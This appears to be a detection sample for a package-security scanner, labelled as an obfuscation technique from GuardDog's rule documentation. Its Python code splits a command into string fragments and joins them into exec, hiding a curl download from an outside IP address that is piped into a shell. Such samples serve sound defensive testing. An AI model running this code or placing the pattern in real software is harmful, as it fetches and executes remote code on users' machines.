# technique: payload split across many literals and joined before exec
# class: obfuscation
# source: GuardDog "obfuscation" rule docs (split strings)
# declares:

_p = ["im", "port o", "s;o", "s.sy", "stem", "('cu", "rl -s h", "ttp://1", "85.62.", "57.73/", "i|sh')"]
exec("".join(_p))
